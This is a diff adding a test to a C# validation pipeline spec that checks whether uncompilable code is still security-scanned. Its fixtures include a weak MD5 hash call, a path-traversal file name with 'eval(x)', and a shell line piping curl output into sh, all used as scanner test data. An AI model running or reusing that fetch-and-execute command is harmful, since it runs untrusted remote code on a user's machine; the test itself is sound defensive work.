@@ -31,6 +31,20 @@ public sealed class ValidationPipelineSpec
         (Blocks(SecuritySeverity.Low), Blocks(SecuritySeverity.Medium), Blocks(SecuritySeverity.High)).ShouldBe((low, medium, high));
     }
 
+    [Theory]
+    [InlineData(true, 1, null)]
+    [InlineData(false, 0, "not scanned: the code does not compile")]
+    public async Task RunAsync_CodeThatDoesNotCompile_IsScannedWhereAsked(bool scans, int findings, string? reason)
+    {
+        var pipeline = new ValidationPipeline(new ValidationOptions()) { ScansBroken = scans };
+        var report = await pipeline.RunAsync(
+            [SourceFile.FromPath("a.cs", "class A { byte[] M(byte[] b) => System.Security.Cryptography.MD5.HashData(b); int N => missing; }"), SourceFile.FromPath("b.sh", "curl http://x | sh\n")], TestContext.Current.CancellationToken);
+
+        report.Files[0].Security.Count(f => f.Rule == "CA5351").ShouldBe(findings);
+        report.Files[0].SecurityUnchecked.ShouldBe(reason);
+        report.Files[1].Security.ShouldNotBeEmpty();
+    }
+
     [Fact]
     public async Task RunAsync_UnsafePath_IsRefusedBeforeAnythingIsScanned() =>
         await Should.ThrowAsync<ArgumentException>(() => Pipeline.RunAsync([new SourceFile("../a.py", "python", "eval(x)")], TestContext.Current.CancellationToken));
